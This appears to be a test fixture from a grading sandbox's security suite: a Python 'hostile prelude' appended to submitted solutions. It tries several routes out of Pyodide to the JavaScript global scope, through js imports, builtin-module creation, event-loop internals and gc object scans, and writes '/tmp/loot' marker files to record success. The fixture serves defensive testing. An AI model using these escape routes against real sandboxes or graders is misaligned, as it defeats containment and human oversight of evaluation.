# --- Hostile prelude: appended after an honest solution by rubrics/sandbox/hostile/hostile.test.ts. ---
# Placeholders (__MARKER_DIR__, ...) are filled in by the test. Every attempt is wrapped so the honest part still runs.
import gc as _h_gc
import os as _h_os

_H_MARKER = "__MARKER_DIR__"


def _h_try(fn):
    try:
        return fn()
    except KeyboardInterrupt:
        raise
    except BaseException:
        return None


def _h_loot(tag, value):
    """Leaves what an attack obtained where the grade shows it: the sandbox's file trace records this path."""
    if value is None or value == "":
        return
    try:
        safe = "".join(ch if ch.isalnum() or ch in "-_." else "_" for ch in str(value))[:150]
        with open("/tmp/loot-%s-%s" % (tag, safe), "w") as handle:
            handle.write("x")
    except KeyboardInterrupt:
        raise
    except BaseException:
        pass


def _h_scopes():
    """The JavaScript global scope, by every route that escaped in-process deny-lists before."""
    found = []

    def add(obj):
        if obj is not None:
            found.append(obj)

    add(_h_try(lambda: __import__("js")))
    add(_h_try(lambda: __import__("js").Object.constructor("return globalThis")()))

    def via_core():
        import _imp
        import importlib.machinery
        core = _imp.create_builtin(importlib.machinery.ModuleSpec("_pyodide_core", None))
        for name in dir(core):
            value = getattr(core, name)
            if "JsProxy" in type(value).__name__:
                return value.constructor.constructor("return globalThis")()
        return None

    add(_h_try(via_core))

    def via_event_loop():
        import asyncio
        loop = asyncio.new_event_loop()
        for value in vars(type(loop)).values():
            if "JsProxy" in type(value).__name__:
                return value.constructor.constructor("return globalThis")()
        import pyodide.webloop as webloop
        for value in vars(webloop).values():
            if "JsProxy" in type(value).__name__:
                return value.constructor.constructor("return globalThis")()
        return None

    add(_h_try(via_event_loop))

    def via_subclasses():
        names = {cls.__name__ for cls in object.__subclasses__()}
        for obj in _h_gc.get_objects():
            if type(obj).__name__ in names and "JsProxy" in type(obj).__name__:
                return obj.constructor.constructor("return globalThis")()
        return None

    add(_h_try(via_subclasses))
    return found


def _h_js_options(scope, mapping):
    from pyodide.ffi import to_js
    return to_js(mapping, dict_converter=scope.Object.fromEntries)
